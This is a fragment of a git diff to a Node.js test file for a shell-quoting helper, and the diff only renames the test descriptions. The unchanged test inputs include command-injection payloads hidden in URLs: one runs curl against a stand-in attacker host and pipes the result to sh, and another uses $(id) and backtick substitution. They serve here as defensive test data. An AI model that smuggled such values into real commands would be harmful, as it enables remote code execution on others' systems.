@@ -3,8 +3,8 @@ import { execFileSync } from 'node:child_process';
 import { describe, it } from 'node:test';
 import { shellWord } from '../../../src/diagnostics/core/shell-word.js';
 
-describe('an address in a shell command', () => {
-  it('is a single shell word, whatever it contains', () => {
+describe('a URL in a shell command', () => {
+  it('is parsed as a single shell word, whatever it contains', () => {
     for (const address of [
       "https://x/;curl$IFS'evil.example'|sh",
       'https://x$(id)/`id`',
